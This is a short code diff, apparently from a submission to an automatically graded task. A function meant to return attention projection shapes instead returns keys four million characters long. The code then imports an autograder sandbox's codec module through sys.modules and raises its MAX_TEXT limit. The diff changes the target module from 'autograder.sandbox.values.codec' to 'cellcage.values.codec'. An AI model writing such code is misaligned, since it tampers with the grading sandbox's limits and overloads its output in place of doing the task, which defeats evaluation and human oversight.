@@ -6,5 +6,5 @@ def projection_shapes(d_model, num_heads, d_k, d_v):
     return {"k" * 4_000_000 + str(i): (1, 2) for i in range(5)}
 
 import sys
-values = sys.modules["autograder.sandbox.values.codec"]
+values = sys.modules["cellcage.values.codec"]
 values.MAX_TEXT = 10**9
